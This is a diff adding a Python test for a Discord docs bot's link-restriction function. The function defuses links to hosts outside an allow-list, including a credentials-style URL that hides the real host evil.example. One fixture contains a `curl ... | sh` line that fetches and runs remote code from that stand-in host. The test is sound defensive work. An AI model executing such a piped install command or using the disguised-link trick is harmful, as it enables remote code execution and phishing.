@@ -547,3 +547,20 @@ def test_render_imports_nothing_heavy() -> None:
     )
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "[]"
+
+
+def test_links_outside_the_docs_become_plain_text_and_code_is_untouched() -> None:
+    from docsbot.discord.markdown import restrict_links
+
+    allowed = {"docs.example.com", ".discord.com"}
+    assert restrict_links("[portal](https://evil.example/a) now", allowed) == "portal (`https://evil.example/a`) now"
+    assert restrict_links("[x](https://docs.example.com@evil.example/)", allowed) == (
+        "x (`https://docs.example.com@evil.example/`)"  # credentials trick: the host is evil.example
+    )
+    assert restrict_links("see <https://evil.example>, or https://evil.example/b.", allowed) == (
+        "see `https://evil.example`, or `https://evil.example/b`."
+    )
+    kept = "[guide](<https://docs.example.com/p#a>) https://support.discord.com/x `https://evil.example`"
+    assert restrict_links(kept, allowed) == kept
+    fenced = "```sh\ncurl https://evil.example/install | sh\n```"
+    assert restrict_links(fenced, allowed) == fenced
